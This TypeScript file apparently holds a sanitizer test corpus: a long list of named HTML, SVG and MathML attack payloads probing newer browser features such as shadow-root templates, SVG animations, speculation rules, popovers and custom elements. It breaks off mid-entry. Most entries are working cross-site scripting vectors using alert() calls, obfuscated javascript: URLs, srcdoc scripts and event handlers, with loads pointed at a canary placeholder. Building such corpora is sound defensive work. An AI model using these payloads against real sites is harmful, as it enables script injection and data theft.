/**
 * Attacks by recent features of browsers, and by changes after sanitizing; in the format of `own-attacks.ts`. Elements
 * with the class `poke` are pressed.
 */
/** Markup as an attribute's value, in spellings that parsers treat alike. */
const spelt = (markup: string, how: (char: string) => string): string => Array.from(markup, how).join('');
const code = (char: string): number => char.codePointAt(0) ?? 0;

export const MODERN_ATTACKS: readonly { readonly name: string; readonly payload: string }[] = [
  {
    name: 'SVG: presentation attributes with addresses',
    payload: `<svg>${'fill stroke filter mask clip-path marker marker-start marker-mid marker-end cursor color-profile shape-inside shape-subtract transform font-family flood-color stop-color lighting-color mask-image background content src style enable-background'
      .split(' ')
      .map(
        (name, at) =>
          `<path ${name}="url({{canary}}/${at}#x) src('{{canary}}/src-${at}') image-set('{{canary}}/set-${at}' 1x) u\\72l({{canary}}/esc-${at})" d="M0 0h9"/><text ${name}="&#117;rl(&quot;{{canary}}/quot-${at}&quot;)">t</text>`,
      )
      .join(
        '',
      )}<style type="text/css"><![CDATA[path{fill:url({{canary}}/css#x)}]]><!--*{mask:url({{canary}}/css-2)}--></style><style xlink:href="{{canary}}/css-3" href="{{canary}}/css-4"/></svg>`,
  },
  {
    name: 'SVG: uses of data, blobs and files that use others',
    payload: `<svg id="s"><use href="data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'>&lt;a href='javascript:alert(1)'>&lt;text y='9'>x&lt;/text>&lt;/a>&lt;image href='{{canary}}/1'/>&lt;script>alert(2)&lt;/script>&lt;/svg>#x"/><use href="/attack/scripts.svg#x"/><use href="/attack/external.svg#x" x="1"/><use href="test2.svg#x"><animate attributeName="x" to="9"/></use><use href="" xlink:href="{{canary}}/2#x"/><use href="{{canary}}/3#x" xlink:href="#s"/><use href="&#x9;{{canary}}/4#x"/><use href="blob:null/x#x"/><use href="javascript:alert(3)#x"/><use href="filesystem:{{canary}}/5#x"/></svg><script>const b=URL.createObjectURL(new Blob(['<svg xmlns="http://www.w3.org/2000/svg" id="x"><g onclick="alert(4)"><image href="{{canary}}/6"/><style>*{fill:url({{canary}}/7)}</style><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="{{canary}}/8"/></foreignObject></g></svg>'],{type:'image/svg+xml'}));for(const name of['href','xlink:href','HREF']){const u=document.createElementNS('http://www.w3.org/2000/svg','use');name.includes(':')?u.setAttributeNS('http://www.w3.org/1999/xlink',name,b+'#x'):u.setAttribute(name,b+'#x');s.append(u);setTimeout(()=>u.setAttribute('href','{{canary}}/9#x'),10)}</script>`,
  },
  {
    name: 'SVG: animations that become harmful after they have passed',
    payload: `<svg id="s"><a id="l" href="#" class="poke"><text y="20">press</text></a><image id="i" width="9" height="9"/></svg><script>const S='http://www.w3.org/2000/svg';const make=(n,a,p)=>{const e=document.createElementNS(S,n);for(const k in a)e.setAttribute(k,a[k]);p.append(e);return e};
      const a=make('animate',{attributeName:'x',to:'javascript:alert(1)',dur:'1s',fill:'freeze',begin:'0s'},l);const b=make('set',{attributeName:'fill',to:'{{canary}}/1'},i);const c=make('animate',{attributeName:'opacity',values:'#;javascript:alert(2)',dur:'1s',repeatCount:'indefinite'},s);const d=make('set',{to:'javascript:alert(3)'},l);const e=make('animate',{attributeName:'href',to:'#x'},s);
      setTimeout(()=>{a.setAttribute('attributeName','href');b.setAttribute('attributeName','href');c.setAttribute('attributeName','xlink:href');c.setAttribute('href','#l');l.append(c);d.setAttribute('attributeName',' href ');e.setAttribute('to','javascript:alert(4)');l.append(e);d.setAttributeNS(null,'attributename','href');for(const x of[a,b,c,d,e])try{x.beginElement()}catch{}},30);for(const n of['hreF','HREF','href\\t','xlink:HREF','{http://www.w3.org/1999/xlink}href','svg:href','onbegin','style','class','srcdoc','id'])make('set',{attributeName:n,to:'javascript:alert(5)',onbegin:'alert(6)',begin:'0s'},l)</script>`,
  },
  {
    name: 'SVG: links that open, save and tell',
    payload: `<svg xmlns:xlink="http://www.w3.org/1999/xlink" width="300" height="90">${[
      'href="javascript:alert(1)"',
      'href="java&#10;script:alert(2)" target="_top"',
      'xlink:href="&#1;javascript:alert(3)" xlink:show="embed" xlink:actuate="onLoad"',
      'href="{{canary}}/1" target="_parent" ping="{{canary}}/2" download="x.exe"',
      'href="{{canary}}/3" xlink:show="new" target="vitrine" rel="opener" referrerpolicy="unsafe-url" attributionsrc="{{canary}}/4"',
      'href="#" xlink:href="javascript:alert(4)" onclick="alert(5)"',
      'href="data:text/html,<script>alert(6)</script>" type="text/html"',
      'href="blob:{{canary}}/x" interestfor="s" autofocus tabindex="1"',
    ]
      .map((attributes, at) => `<a ${attributes}><text class="poke" y="${10 + at * 10}">l${at}</text></a>`)
      .join('')}<g xlink:type="simple" xlink:href="{{canary}}/5" xlink:actuate="onLoad"/></svg>`,
  },
  {
    name: 'SVG: paths, texts and gradients from elsewhere, in both spellings',
    payload: `<svg xmlns:x="http://www.w3.org/1999/xlink">${'mpath textPath tref glyphRef altGlyph linearGradient radialGradient pattern filter feImage image cursor color-profile font-face-uri definition-src script animation audio video iframe source track discard animateMotion set view hatch mesh meshgradient solidcolor prefetch page handler listener'
      .split(' ')
      .map(
        (name, at) =>
          `<g><${name} href="{{canary}}/${at}#x" x:href="{{canary}}/x-${at}#x" src="{{canary}}/src-${at}" data="{{canary}}/data-${at}" poster="{{canary}}/poster-${at}" path="url({{canary}}/path-${at})" onload="alert(${at})" onbegin="alert(${at})" crossorigin="use-credentials">t</${name}></g>`,
      )
      .join('')}</svg>`,
  },
  {
    name: 'MathML: addresses on every element, in both spellings',
    payload: `<math xmlns:xlink="http://www.w3.org/1999/xlink">${'mi mn mo mtext ms mspace mrow mfrac msqrt mroot mstyle merror mpadded mphantom mfenced menclose msub mmultiscripts mtable mtr mtd maction semantics annotation annotation-xml mglyph malignmark mstack mlongdiv none mprescripts a script iframe img'
      .split(' ')
      .map(
        (name, at) =>
          `<mrow><${name} class="poke" href="javascript:alert(${at})" xlink:href="{{canary}}/${at}" src="{{canary}}/src-${at}" altimg="{{canary}}/alt-${at}" definitionURL="{{canary}}/def-${at}" mathbackground="url({{canary}}/bg-${at})" background="{{canary}}/back-${at}" target="_top" ping="{{canary}}/ping-${at}" onmouseover="alert(1)" style="mask:url({{canary}}/mask-${at})" actiontype="statusline#{{canary}}">m</${name}></mrow>`,
      )
      .join('')}</math>`,
  },
  {
    name: 'MathML: annotations in encodings of all kinds',
    payload: `<math><semantics>${[
      'text/html',
      'TEXT/HTML',
      'application/xhtml+xml',
      ' text/html',
      'image/svg+xml',
      'SVG1.1',
      'MathML-Content',
      'text/html;x',
      '',
      'application/x-java',
    ]
      .map(
        (encoding, at) =>
          `<annotation-xml encoding="${encoding}" src="{{canary}}/${at}" cd="{{canary}}/cd-${at}"><svg><desc><img src="{{canary}}/img-${at}" onerror="alert(${at})"><form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)></style></mglyph></form></mtext></math></desc><script>alert(2)</script></svg><a href="javascript:alert(3)">a</a><object data="{{canary}}/o-${at}"></object><mi href="javascript:alert(4)">i</mi></annotation-xml>`,
      )
      .join(
        '',
      )}</semantics></math><script>for(const a of document.querySelectorAll('annotation-xml')){a.setAttribute('encoding',a.getAttribute('encoding')?'':'text/html');a.append(...document.createRange().createContextualFragment('<iframe srcdoc="<script>alert(5)<\\/script>"></iframe><embed src="{{canary}}/e">').childNodes)}</script>`,
  },
  {
    name: 'Namespaces: nodes from other documents, and names in the wrong case',
    payload: `<div id="m"></div><script>const H='http://www.w3.org/1999/xhtml',S='http://www.w3.org/2000/svg',M='http://www.w3.org/1998/Math/MathML',X='http://www.w3.org/1999/xlink';const put=(e)=>{try{m.append(e)}catch{}};
      for(const [ns,n]of[[H,'IFRAME'],[H,'Link'],[S,'IFRAME'],[S,'A'],[S,'Use'],[S,'USE'],[S,'Image'],[S,'SET'],[M,'A'],[M,'MI'],[null,'script'],[null,'iframe'],[H,'x:iframe'],[H,'svg'],[S,'math'],[M,'svg'],[S,'html'],[S,'body'],[H,'a:b'],[S,'a'],[H,'template'],[H,'object']]){const e=document.createElementNS(ns,n);for(const[k,v]of[['src','{{canary}}/1'],['HREF','javascript:alert(1)'],['SRCDOC','<script>alert(2)<\\/script>'],['OnLoad','alert(3)'],['data','{{canary}}/2'],['xlink:href','javascript:alert(4)']]){try{e.setAttributeNS(null,k,v)}catch{}try{e.setAttributeNS(X,'xlink:'+k.toLowerCase().replace(/.*:/,''),v)}catch{}}put(e)}
      for(const [text,type]of[['<r xmlns:h="'+H+'" xmlns:s="'+S+'"><h:iframe src="{{canary}}/3"/><h:img src="{{canary}}/4" onerror="alert(5)"/><s:svg><s:script href="{{canary}}/5"/><s:a href="javascript:alert(6)"/></s:svg><h:link rel="stylesheet" href="{{canary}}/6"/><h:style>*{background:url({{canary}}/7)}</h:style></r>','text/xml'],['<svg xmlns="'+S+'" onload="alert(7)"><foreignObject><body xmlns="'+H+'" onload="alert(8)" background="{{canary}}/8"/></foreignObject></svg>','image/svg+xml']]){const d=new DOMParser().parseFromString(text,type);put(document.importNode(d.documentElement,true));put(document.adoptNode(d.documentElement))}
      const t=document.createAttributeNS(X,'onclick');t.value='alert(9)';m.setAttributeNode(t);const u=document.createAttribute('onfocus');u.value='alert(10)';m.setAttributeNode(u)</script>`,
  },
  {
    name: 'Clobbering: members of nodes, forms and documents',
    payload: `${'attributes childNodes children parentNode firstChild nextSibling nodeType nodeName localName namespaceURI shadowRoot content textContent innerHTML ownerDocument isConnected setAttribute getAttribute removeAttribute appendChild insertBefore remove append replaceChildren addEventListener style classList id contentDocument contentWindow constructor __proto__ toString valueOf then adoptedStyleSheets elements action target method submit requestSubmit reset focus blur click'
      .split(' ')
      .map(
        (name) =>
          `<input name="${name}"><img name="${name}" id="${name}"><button name="${name}" id="${name}"></button>`,
      )
      .join('')
      .replace(
        /^/,
        '<form id="f" action="{{canary}}/1" onsubmit="alert(1)">',
      )}</form>${'documentElement body head defaultView createElement createElementNS createTreeWalker getElementById querySelector querySelectorAll adoptNode importNode activeElement cookie location URL styleSheets fonts timeline doctype forms scripts currentScript implementation'
      .split(' ')
      .map(
        (name) =>
          `<form name="${name}"></form><img name="${name}" src="x"><object id="${name}"></object><iframe name="${name}"></iframe>`,
      )
      .join('')}`,
  },
  {
    name: 'Templates: shadow roots in markup',
    payload: `${['open', 'closed', 'OPEN', '', 'x']
      .map(
        (mode, at) =>
          `<div><template shadowrootmode="${mode}" shadowrootdelegatesfocus shadowrootclonable shadowrootserializable shadowrootslotassignment="manual" shadowrootadoptedstylesheets="{{canary}}/${at}" shadowrootreferencetarget="x" shadowrootcustomelementregistry><style>@import "{{canary}}/i-${at}";:host{background:url({{canary}}/h-${at})}</style><link rel="stylesheet" href="{{canary}}/l-${at}"><script>alert(${at})</script><img src="{{canary}}/m-${at}" onerror="alert(1)"><iframe srcdoc="<script>alert(2)</script>"></iframe><slot onslotchange="alert(3)"></slot><a id="x" href="javascript:alert(4)" class="poke">a</a><span><template shadowrootmode="open"><form action="javascript:alert(5)"><button formaction="{{canary}}/f-${at}">b</button></form><base href="{{canary}}/"><meta http-equiv="refresh" content="0;{{canary}}/r-${at}"></template></span></template><template shadowrootmode="open"><embed src="{{canary}}/e-${at}"></template>light</div>`,
      )
      .join(
        '',
      )}<div id="u"></div><script>u.setHTMLUnsafe?.('<p><template shadowrootmode="closed"><object data="{{canary}}/o"></object><svg><script>alert(6)<\\/script></svg></template></p>')</script>`,
  },
  {
    name: 'Templates: what is in them comes out',
    payload: `<template id="t"><script>alert(1)</script><img src="{{canary}}/1" onerror="alert(2)"><base href="{{canary}}/"><link rel="stylesheet" href="{{canary}}/2"><template><iframe src="{{canary}}/3"></iframe></template><svg><use href="{{canary}}/4#x"/></svg><style>*{background:url({{canary}}/5)}</style></template><svg><template><img src=x onerror="alert(3)"></template></svg><math><template><script>alert(4)</script></template></math><div id="d"></div><script>d.append(t.content.cloneNode(true));d.append(...t.content.childNodes);const inner=d.querySelectorAll('template');for(const each of inner)d.append(each.content);t.append('direct child',document.createElement('embed'));t.content.append(document.createElementNS('http://www.w3.org/2000/svg','script'));document.documentElement.append(t)</script>`,
  },
  {
    name: 'Metadata: late, changed and in the wrong place',
    payload: `<p>p</p><meta id="a" name="viewport" content="width=1"><meta id="b" name="theme-color" content="red"><meta id="c"><base id="z" target="_self"><a id="l" href="relative" class="poke">a</a><img id="i" src="relative.png"><script>const m=(o)=>document.body.append(Object.assign(document.createElement('meta'),o));setTimeout(()=>{a.removeAttribute('name');a.httpEquiv='refresh';a.content='0;url={{canary}}/1';b.setAttribute('http-equiv','content-security-policy');b.content="script-src 'unsafe-inline';report-uri {{canary}}/2";c.setAttribute('HTTP-EQUIV','refresh');c.setAttribute('content','0;URL=javascript:alert(1)');z.href='{{canary}}/base/';z.target='_top';m({name:'referrer',content:'unsafe-url'});m({httpEquiv:'set-cookie',content:'a=b'});m({httpEquiv:'origin-trial',content:'x'});m({httpEquiv:'accept-ch',content:'sec-ch-ua-arch'});m({httpEquiv:'delegate-ch',content:'sec-ch-ua {{canary}}'});m({httpEquiv:'x-dns-prefetch-control',content:'on'});m({httpEquiv:'default-style',content:'{{canary}}/3'});m({name:'viewport',content:'url({{canary}}/4)'});m({name:'msapplication-config',content:'{{canary}}/5'});m({name:'monetization',content:'{{canary}}/6'});m({name:'color-scheme',content:'dark;background:url({{canary}}/7)'});document.head.append(Object.assign(document.createElement('base'),{href:'javascript:alert(2)//'}))},20)</script>`,
  },
  {
    name: 'Links: of every kind, and such that become another',
    payload: `${'stylesheet preload modulepreload preconnect dns-prefetch prefetch prerender next prev manifest icon shortcut apple-touch-icon apple-touch-startup-image mask-icon search import alternate amphtml canonical pingback monetization payment compression-dictionary expect subresource serviceworker webbundle privacy-policy terms-of-service help license author me fluid-icon p3pv1'
      .split(' ')
      .flatMap((rel, at) => [
        `<link rel="${rel}" href="{{canary}}/${at}" as="${['script', 'style', 'image', 'font', 'fetch', 'document'][at % 6]}" imagesrcset="{{canary}}/set-${at} 1x" imagesizes="1px" crossorigin integrity="x" blocking="render" onload="alert(${at})" type="text/css" sizes="any">`,
        `<link class="late" data-rel="${rel.toUpperCase()} x" href="{{canary}}/late-${at}" itemprop="x">`,
      ])
      .join(
        '',
      )}<link rel="alternate stylesheet" title="x" href="{{canary}}/alt"><link rel="stylesheet" disabled href="{{canary}}/off" id="o"><link rel="stylesheet" media="print" href="{{canary}}/print" onload="this.media='all'"><link rel="stylesheet" href="data:text/css,*{background:url({{canary}}/data)}@import '{{canary}}/data-2';"><p>p<link rel="stylesheet" href="{{canary}}/body"><script>setTimeout(()=>{for(const link of document.querySelectorAll('.late')){link.rel=link.dataset.rel;link.as='image'}o.disabled=false},20)</script>`,
  },
  {
    name: 'Scripts that are none: rules, maps, bundles and data',
    payload: `${[
      'speculationrules',
      'importmap',
      'webbundle',
      'module',
      'text/babel',
      'application/json',
      'text/x-template',
      'fontface',
      'x-shader/x-vertex',
      'text/vbscript',
    ]
      .map(
        (type, at) =>
          `<script type="${type}" src="${at % 2 ? `{{canary}}/${at}` : ''}" async crossorigin nomodule fetchpriority="high" event="onload" for="window">{"prefetch":[{"source":"list","urls":["{{canary}}/prefetch-${at}"],"eagerness":"immediate"}],"prerender":[{"urls":["{{canary}}/prerender-${at}"]},{"source":"document","where":{"href_matches":"/*"},"eagerness":"immediate"}],"imports":{"vitrine":"{{canary}}/map-${at}"},"source":"{{canary}}/bundle-${at}","resources":["{{canary}}/r"]}</script><svg><script type="${type}" href="{{canary}}/svg-${at}">alert(1)</script></svg>`,
      )
      .join(
        '',
      )}<a href="/attack/next">next</a><script>for(const type of['speculationrules','importmap']){const s=document.createElement('script');s.type=type;s.textContent='{"prefetch":[{"urls":["{{canary}}/late"],"eagerness":"immediate"}],"imports":{"react":"{{canary}}/react"}}';document.head.append(s);const d=document.createElement('data-block');d.setAttribute('type',type);d.textContent=s.textContent;document.body.append(d)}document.createElement('script').src='{{canary}}/never'</script>`,
  },
  {
    name: 'Elements that load documents, or once did',
    payload: `${'portal fencedframe controlledframe webview isindex keygen applet bgsound xml layer ilayer image nextid comment noembed noframes nolayer server multicol frame frameset plaintext2 listing model geolocation permission usermedia install login credential embed object audio video track source picture iframe dialog slot menuitem command content shadow element decorator dir rb rtc basefont marquee blink spacer'
      .split(' ')
      .map(
        (name, at) =>
          `<${name} src="{{canary}}/${at}" href="{{canary}}/h-${at}" data="{{canary}}/d-${at}" code="{{canary}}/c-${at}" codebase="{{canary}}/" action="{{canary}}/a-${at}" background="{{canary}}/b-${at}" lowsrc="{{canary}}/l-${at}" dynsrc="{{canary}}/y-${at}" poster="{{canary}}/p-${at}" srcdoc="<script>alert(${at})</script>" prompt="x" datasrc="#x" archive="{{canary}}/z-${at}" manifest="{{canary}}/m-${at}" onload="alert(1)" onerror="alert(2)" onstart="alert(3)" type="geolocation" autoplay>x</${name}>`,
      )
      .join(
        '',
      )}<script>const f=document.createElement('fencedframe');try{f.config=new FencedFrameConfig('{{canary}}/f')}catch{}document.body.append(f);const p=document.createElement('portal');p.src='{{canary}}/p';document.body.append(p);p.activate?.()</script>`,
  },
  {
    name: 'Forms: pictures, actions and targets of their parts',
    payload: `<form id="f" action="{{canary}}/1" method="dialog" target="_top" rel="opener" accept-charset="utf-7"><input type="image" class="poke" src="{{canary}}/2" srcset="{{canary}}/3 1x" alt="i" formaction="javascript:alert(1)" formtarget="_parent" onerror="alert(2)"><input id="t" type="text" src="{{canary}}/4" value="x" dirname="{{canary}}/5"><button class="poke" formaction="{{canary}}/6" formmethod="get" formtarget="vitrine" formenctype="text/plain" formnovalidate>b</button><input type="submit" class="poke" formaction="JaVaScRiPt:alert(3)" value="s"><input type="hidden" name="_charset_"><input type="file" capture webkitdirectory><input type="password" autocomplete="current-password" name="password"><input list="d" autocomplete="cc-number"><datalist id="d"><option value="javascript:alert(4)" onclick="alert(5)"></datalist><fieldset form="f" name="f"></fieldset><output for="f" form="f" onformdata="alert(6)"></output></form><button form="f" formaction="data:text/html,<script>alert(7)</script>" class="poke">o</button><script>setTimeout(()=>{t.type='image';t.src='{{canary}}/7';f.action='javascript:alert(8)';f.setAttribute('action','&#106;avascript:alert(9)');const g=document.createElementNS('http://www.w3.org/1999/xhtml','form');g.action='{{canary}}/8';g.append(document.createElement('button'));document.body.append(g);f.target='x'},20)</script>`,
  },
  {
    name: 'Pictures: candidates, sizes and sources in all spellings',
    payload: `<img srcset="{{canary}}/1,{{canary}}/2 2x"><img srcset=",,{{canary}}/3 1x,data:image/png;base64,x 2x, {{canary}}/4 100w" sizes="(width>0) 9px, url({{canary}}/5)"><img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" srcset="{{canary}}/6\t1x\n,{{canary}}/7\f2x"><picture><source srcset="{{canary}}/8" media="all and (width>0)" type="image/svg+xml" sizes="auto"><source src="{{canary}}/9" srcset="javascript:alert(1)"><img src="{{canary}}/10" loading="lazy" sizes="auto" decoding="sync" fetchpriority="high" attributionsrc="{{canary}}/11" sharedstoragewritable browsingtopics crossorigin="use-credentials" referrerpolicy="unsafe-url" lowsrc="{{canary}}/12" longdesc="{{canary}}/13" usemap="{{canary}}/14#m" ismap onerror="alert(2)"></picture><img src="//{{canary}}/15"><img src="\\\\canary.test\\16"><img src="ht&#9;tp:/&#10;/canary.test/17"><img src=" {{canary}}/18 "><img src="view-source:{{canary}}/19"><img src="blob:{{canary}}/20"><img src="filesystem:{{canary}}/21"><img src="chrome://favicon/{{canary}}"><img src="about:srcdoc"><video controls poster="{{canary}}/22" src="{{canary}}/23"><source src="{{canary}}/24"><track default src="{{canary}}/25"></video><audio controls src="{{canary}}/26"></audio><script>setTimeout(()=>{for(const i of document.images){i.srcset='{{canary}}/27 3x';i.sizes='1px';i.src='{{canary}}/28';i.loading='eager';i.attributionSrc='{{canary}}/29'}new Image().src='{{canary}}/30'},20)</script>`,
  },
  {
    name: 'Links that tell others, open windows and save files',
    payload: `${[
      'href="{{canary}}/1" ping="{{canary}}/2 {{canary}}/3"',
      'href="#x" ping="{{canary}}/4" attributionsrc="{{canary}}/5" target="_blank" rel="opener"',
      'href="{{canary}}/6" download="a/../b.exe" type="x" hreflang="x"',
      'href="j&Tab;a&NewLine;vascript&colon;alert(1)"',
      'href="\u00a0javascript:alert(2)"',
      'href="javascript&#58alert(3)" target="_top"',
      'href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="',
      'href="vbscript:alert(4)" interestfor="x" interesttarget="x"',
      'href="/javascript:alert(5)" target="main"',
      'href="\\\\canary.test/7" target="vitrine-view"',
      'href="intent://x#Intent;scheme=http;end"',
      'href="ms-settings:x" target="_unfencedTop"',
      'href="//canary.test/8" referrerpolicy="unsafe-url" privatetoken="x" adauctionheaders conversiondestination="{{canary}}/9"',
      'href="?x:javascript:alert(6)" tabindex="-1" accesskey="a" autofocus draggable="true"',
    ]
      .map((attributes, at) => `<p><a class="poke" ${attributes}>l${at}</a>`)
      .join(
        '',
      )}<map name="m"><area class="poke" shape="default" href="javascript:alert(7)" ping="{{canary}}/10" target="_top" download></map><img usemap="#m" src="x" width="9" height="9">`,
  },
  {
    name: 'Objects and embeds of all types',
    payload: `${[
      'image/svg+xml',
      'text/html',
      'application/pdf',
      'application/x-shockwave-flash',
      'application/x-java-applet',
      'text/xml',
      'application/x-silverlight-2',
      'audio/mpeg',
      'application/x-test',
      '',
      'TEXT/HTML;x',
    ]
      .map(
        (type, at) =>
          `<object type="${type}" data="${at % 2 ? `{{canary}}/${at}` : `data:${type},<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>`}" codebase="{{canary}}/" classid="clsid:x" code="x.class" archive="{{canary}}/z-${at}" standby="x" usemap="#m" typemustmatch name="o${at}" form="f" onload="alert(${at})" width="9" height="9"><param name="movie" value="{{canary}}/m-${at}"><param name="src" value="javascript:alert(2)" valuetype="ref"><embed type="${type}" src="{{canary}}/e-${at}" pluginspage="{{canary}}/pp-${at}" pluginurl="{{canary}}/pu-${at}" flashvars="{{canary}}" allowscriptaccess="always" wmode="x"><img src=x onerror="alert(3)"><object data="javascript:alert(4)">fallback<a href="javascript:alert(5)">a</a></object></object>`,
      )
      .join(
        '',
      )}<script>setTimeout(()=>{for(const o of document.querySelectorAll('object')){o.data='{{canary}}/late';o.type='text/html';o.setAttribute('DATA','javascript:alert(6)')}for(const e of document.querySelectorAll('embed'))e.src='javascript:alert(7)'},20)</script>`,
  },
  {
    name: 'Frames: documents in attributes, in every spelling',
    payload: `${[
      spelt('<script>alert(1)</script>', (char) => `&#${code(char)};`),
      spelt('<script>alert(2)</script>', (char) => `&#x${code(char).toString(16)}`),
      spelt('<img src=x onerror=alert(3)>', (char) => `&#${String(code(char)).padStart(9, '0')};`),
      '&lt;script&gt;alert(4)&lt;/script&gt;',
      '&LT;svg/onload&equals;alert&lpar;5&rpar;&GT;',
      '<base href={{canary}}/><link rel=stylesheet href=x><meta http-equiv=refresh content=0;{{canary}}/1>',
      "<iframe srcdoc='<iframe srcdoc=&amp;lt;script&amp;gt;alert(6)&amp;lt;/script&amp;gt;></iframe>'></iframe>",
      '<style>*{background:url({{canary}}/2)}</style><form action=javascript:alert(7)><button class=poke>b',
      '\u0000<script>alert(8)</script>',
      '<a class=poke href=javascript:alert(9) target=_top>a</a><a class=poke href={{canary}}/3 target=_parent>b',
    ]
      .map(
        (markup, at) =>
          `<iframe srcdoc="${markup}" src="{{canary}}/s-${at}" name="n${at}" height="40" onload="alert(10)"></iframe>`,
      )
      .join('')}${[
      'javascript:parent.alert(11)',
      '&#x6A;avascript:alert(12)',
      ' java\nscript:alert(13)',
      'view-source:{{canary}}/4',
      'about:srcdoc',
      'data:text/html,<script>alert(14)</script>',
      '//canary.test/5',
    ]
      .map(
        (src) =>
          `<iframe src="${src}" sandbox="allow-scripts allow-top-navigation allow-popups" allow="camera *" csp="x" credentialless allowfullscreen browsingtopics loading="lazy" height="20"></iframe>`,
      )
      .join(
        '',
      )}<script>setTimeout(()=>{for(const f of document.querySelectorAll('iframe')){f.removeAttribute('sandbox');f.srcdoc='<script>top.alert(15)<\\/script><p>late';f.name='vitrine'}},40)</script>`,
  },
  {
    name: 'Popovers, dialogs, commands and interest',
    payload: `<div id="p" popover onbeforetoggle="alert(1)" ontoggle="alert(2)" oncommand="alert(3)">p<a href="javascript:alert(4)" class="poke">a</a></div><dialog id="d" closedby="any" onclose="alert(5)" oncancel="alert(6)"><form method="dialog"><button class="poke">c</button></form></dialog><details id="s" name="x" ontoggle="alert(7)"><summary class="poke" onclick="alert(8)">s</summary></details>${[
      '--x',
      '--javascript:alert(9)',
      'show-modal',
      'close',
      'request-close',
      'toggle-popover',
      'show-popover',
      'HIDE-POPOVER',
      'toggle-fullscreen',
      'play-pause',
      'show-picker',
      'copy',
      'share',
      'step-up',
      'open',
      'toggle',
      ' show-modal',
      '',
    ]
      .map(
        (command, at) =>
          `<button type="button" class="poke" command="${command}" commandfor="${['p', 'd', 's', 'vitrine-view'][at % 4]}" interestfor="p" interesttarget="d" popovertarget="p" popovertargetaction="${command}" invoketarget="d" invokeaction="showmodal" oninterest="alert(1)">${at}</button>`,
      )
      .join('')}<a href="#x" interestfor="p" class="poke">i</a>${['hint', 'auto', 'manual', 'x', '']
      .map(
        (kind) =>
          `<div popover="${kind}" anchor="p" autofocus>k<iframe srcdoc="<script>alert(10)</script>"></iframe></div>`,
      )
      .join(
        '',
      )}<script>setTimeout(()=>{for(const e of document.querySelectorAll('[popover]'))try{e.showPopover()}catch{}try{d.showModal()}catch{}setTimeout(()=>d.close(),40)},20)</script>`,
  },
  {
    name: 'Custom elements: kinds, registries and names',
    payload: `<script is="x-s">alert(1)</script><iframe is="x-f" src="{{canary}}/1" customelementregistry></iframe><a is="javascript:alert(2)" href="javascript:alert(3)">a</a><x-a onclick="alert(4)" href="javascript:alert(5)" src="{{canary}}/2" style="background:url({{canary}}/3)" srcdoc="x" ping="{{canary}}/4">x</x-a><annotation-xml href="javascript:alert(6)">x</annotation-xml><font-face src="{{canary}}/5">x</font-face><missing-glyph>x</missing-glyph><v-embed src="{{canary}}/v">x</v-embed><v-blocked onload="alert(8)"></v-blocked><vitrine-frame data-vitrine-frame="main"></vitrine-frame><div id="h"></div><script>const make=(n,o)=>{try{h.append(document.createElement(n,o))}catch{}};class E extends HTMLElement{static formAssociated=true;static observedAttributes=['style','onclick'];#i=this.attachInternals();constructor(){super();this.attachShadow({mode:'closed'}).innerHTML='<img src="{{canary}}/6" onerror="alert(9)"><style>@import "{{canary}}/7"</style>';try{this.#i.states.add('x){}*{background:url({{canary}}/8)}');this.#i.states.add('--y');this.#i.role='javascript:alert(10)'}catch{}}connectedCallback(){this.setAttribute('onfocus','alert(11)')}}
      for(const n of['x-e','x-\u00e9','x-\ud83d\ude00','x-a.b','x-onload','x-script'])try{customElements.define(n,class extends E{})}catch{}for(const n of['x-e','x-\u00e9','x-\ud83d\ude00','x-a.b','x-onload','x-script','x-a:b','script','iframe'])make(n,{is:'x-k'});try{customElements.define('x-k',class extends HTMLIFrameElement{},{extends:'iframe'})}catch{}try{const registry=new CustomElementRegistry();registry.define('x-e',class extends HTMLElement{connectedCallback(){this.innerHTML='<embed src="{{canary}}/9">'}});const root=document.createElement('div').attachShadow({mode:'open',customElementRegistry:registry});root.innerHTML='<x-e></x-e>';registry.initialize?.(root);h.append(root.host);make('x-e',{customElementRegistry:registry})}catch{}</script>`,
  },
  {
    name: 'Selects with content of all kinds',
    payload: `<style>select,::picker(select){appearance:base-select}selectedcontent{background:url({{canary}}/1)}option::checkmark{content:url({{canary}}/2)}</style><select id="s" class="poke"><button onclick="alert(1)"><selectedcontent onload="alert(2)"><img src="{{canary}}/3" onerror="alert(3)"></selectedcontent></button><legend><a href="javascript:alert(4)">l</a></legend><option value="javascript:alert(5)" label="&lt;img src=x onerror=alert(6)>"><img src="{{canary}}/4" onerror="alert(7)"><a href="javascript:alert(8)">o</a><svg><script>alert(9)</script><use href="{{canary}}/5#x"/></svg></option><option selected><iframe srcdoc="<script>alert(10)</script>"></iframe><object data="{{canary}}/6"></object><style>*{mask:url({{canary}}/7)}</style><form action="{{canary}}/8"><button formaction="javascript:alert(11)">b</button></form>two</option><optgroup label="g" onclick="alert(12)"><legend><embed src="{{canary}}/9"></legend><option><math href="javascript:alert(13)"><mi>x</mi></math></option></optgroup><div><option onselect="alert(14)"><script>alert(15)</script></option></div><hr><input src="{{canary}}/10" type="image"></select><select multiple size="3"><option><selectedcontent></selectedcontent><video src="{{canary}}/11" poster="{{canary}}/12"></video></option></select><script>setTimeout(()=>{s.selectedIndex=0;s.options[1].innerHTML='<img src="{{canary}}/13" onerror="alert(16)">';try{s.showPicker()}catch{}},20)</script>`,
  },
  {
    name: 'Handlers: new ones, made-up ones and odd spellings, in every namespace',
    payload: `${'beforematch command beforetoggle scrollend scrollsnapchange scrollsnapchanging contentvisibilityautostatechange pagereveal pageswap beforexrselect webkitanimationend webkittransitionrun gotpointercapture pointerrawupdate securitypolicyviolation slotchange formdata cuechange interest loseinterest promptaction promptdismiss validationstatuschange toggle focusin DOMActivate begin end repeat zoom finish bounce start readystatechange anything'
      .split(' ')
      .map(
        (name, at) =>
          `<p on${name}="alert(${at})" ON${name.toUpperCase()}="alert(1)" on-${name}="alert(2)" on:${name}="alert(3)" data-on${name}="x" x:on${name}="alert(4)" \u200bon${name}="alert(5)" on${name}\u00a0="alert(6)" tabindex="0" class="poke" style="animation:a 1ms">p</p><svg on${name}="alert(7)"><g on${name}="alert(8)"><set on${name}="alert(9)" attributeName="x" to="1"/></g></svg><math on${name}="alert(10)"><mi on${name}="alert(11)">m</mi></math>`,
      )
      .join(
        '',
